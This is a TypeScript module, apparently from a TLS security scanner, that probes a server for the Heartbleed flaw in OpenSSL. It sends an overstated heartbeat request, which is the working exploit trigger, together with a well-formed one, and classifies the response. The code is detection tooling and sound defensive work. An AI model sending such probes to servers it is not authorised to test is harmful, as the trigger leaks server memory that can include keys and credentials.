// Heartbleed (CVE-2014-0160), the classic pre-encryption test: a ClientHello with the heartbeat
// extension, then, after ServerHelloDone, a heartbeat request claiming 16384 payload bytes while
// carrying none. A vulnerable OpenSSL 1.0.1 copies 16 KiB of its memory back. A well-formed
// request follows, so a patched server that answers it (and discards the first) is recognised
// without waiting for the deadline.
import { randomBytes } from 'node:crypto';
import { buildClientHello } from './client-hello.ts';
import { nextEvent, startHello, type Conversation } from './hello-exchange.ts';
import { legacySuites, scanHello } from './hello-defaults.ts';
import { encodeRecord } from './records.ts';
import { contentTypes, extensionTypes, type RawTarget } from './types.ts';

export type HeartbleedVerdict = 'vulnerable' | 'not_vulnerable' | 'unknown';

const claimedLength = 0x4000;

function heartbeatRequests(version: number, probe: Buffer): Buffer {
  const overstated = Buffer.from([1, claimedLength >> 8, claimedLength & 0xff]);
  const wellFormed = Buffer.concat([Buffer.from([1, 0, probe.length]), probe, randomBytes(16)]);
  return Buffer.concat([encodeRecord(contentTypes.heartbeat, version, overstated), encodeRecord(contentTypes.heartbeat, version, wellFormed)]);
}

async function readVerdict(c: Conversation, probe: Buffer): Promise<HeartbleedVerdict> {
  for (;;) {
    const ev = await nextEvent(c);
    if (ev.kind === 'heartbeat') {
      const f = ev.fragment;
      if (f.length < 3 || f[0] !== 2) continue;
      const length = f.readUInt16BE(1);
      if (length > probe.length || f.length > 3 + probe.length + 16) return 'vulnerable';
      if (f.subarray(3, 3 + length).equals(probe)) return 'not_vulnerable';
      continue;
    }
    // An alert, a close, a timeout or garbage after our requests: the overstated one was refused.
    if (ev.kind === 'alert' || ev.kind === 'ended' || ev.kind === 'invalid') return ev.kind === 'ended' && ev.reason === 'aborted' ? 'unknown' : 'not_vulnerable';
  }
}

export async function probeHeartbleed(t: RawTarget, signal?: AbortSignal): Promise<HeartbleedVerdict> {
  const hello = buildClientHello({ ...scanHello(t, 'TLSv1.2', legacySuites), heartbeat: true });
  const { outcome, conversation } = await startHello(t, hello, 'server_hello_done', signal);
  try {
    if (outcome.kind !== 'server_hello' || !outcome.done) return 'unknown';
    // No heartbeat extension in the ServerHello: the server does not speak heartbeat at all.
    if (!outcome.hello.extensions.has(extensionTypes.heartbeat)) return 'not_vulnerable';
    const probe = randomBytes(16);
    conversation.conn.write(heartbeatRequests(outcome.hello.version, probe));
    return await readVerdict(conversation, probe);
  } finally {
    conversation.conn.close();
    signal?.throwIfAborted();
  }
}
